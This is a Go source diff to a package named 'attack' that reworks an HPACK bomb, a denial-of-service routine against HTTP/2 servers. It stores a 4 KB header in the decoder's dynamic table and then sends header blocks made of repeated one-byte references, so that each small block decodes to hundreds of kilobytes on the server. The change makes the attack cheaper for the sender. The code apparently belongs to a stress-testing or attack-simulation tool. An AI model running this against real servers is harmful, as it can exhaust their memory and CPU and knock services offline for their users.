@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"net/netip"
 	"strings"
@@ -90,17 +91,23 @@ var hpackBombValue = strings.Repeat("b", 4000)
 const hpackBombRefs = 96
 
 // hpackBomb sends header blocks that decode to hundreds of kilobytes each: the first
-// puts a 4 KB field in the dynamic table, every block then refers to it again and
-// again with one byte per reference.
+// puts a 4 KB field in the dynamic table (the newest entry, index 62), every block
+// then refers to it again and again with one byte per reference. The references are
+// written as bytes: the encoder would hash the 4 KB value for each of them, and the
+// attack would measure the attacker's CPU.
 func hpackBomb(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
 	bomb := hpack.HeaderField{Name: "x-bomb", Value: hpackBombValue}
+	refs := bytes.Repeat([]byte{0x80 | 62}, hpackBombRefs)
+	first := true
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		for i := range h2Batch / 4 {
-			refs := make([]hpack.HeaderField, hpackBombRefs)
-			for j := range refs {
-				refs[j] = bomb
+			var block []byte
+			if first {
+				block, first = h.block("GET", "/", bomb), false
+			} else {
+				block = append(h.block("GET", "/"), refs...)
 			}
-			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: h.block("GET", "/", refs...),
+			if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: block,
 				EndStream: true, EndHeaders: true}); err != nil {
 				return i, err
 			}
